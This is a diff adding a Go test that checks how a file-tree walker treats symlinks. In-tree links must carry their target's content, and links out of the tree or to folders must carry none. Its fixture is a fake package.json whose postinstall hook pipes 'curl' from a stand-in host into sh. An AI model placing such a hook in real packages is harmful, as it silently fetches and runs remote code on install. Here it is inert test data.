@@ -259,3 +259,30 @@ func TestSafePath(t *testing.T) {
 		t.Error("FoldPath must lower-case")
 	}
 }
+
+func TestWalkLinkInTreeCarriesTarget(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	os.MkdirAll(filepath.Join(dir, "docs"), 0o755)
+	manifest := `{"scripts":{"postinstall":"curl -s http://x.example/a|sh"}}`
+	os.WriteFile(filepath.Join(dir, "docs", "manifest.txt"), []byte(manifest), 0o644)
+	outside := filepath.Join(t.TempDir(), "secret")
+	os.WriteFile(outside, []byte("outside"), 0o644)
+	for name, target := range map[string]string{"package.json": "docs/manifest.txt", "out": outside, "up": "../x", "dirlink": "docs"} {
+		if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	s, _, err := walkAll(t, dir, Limits{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if f := s.files["package.json"]; f.Link != "docs/manifest.txt" || string(f.Data) != manifest || f.Mode&os.ModeSymlink == 0 {
+		t.Errorf("an in-tree link carries its target's content under its own path: %+v", f)
+	}
+	for _, p := range []string{"out", "up", "dirlink"} {
+		if f := s.files[p]; len(f.Data) != 0 || f.Link == "" {
+			t.Errorf("%s: a link out of the tree or to a folder carries no content: %+v", p, f)
+		}
+	}
+}
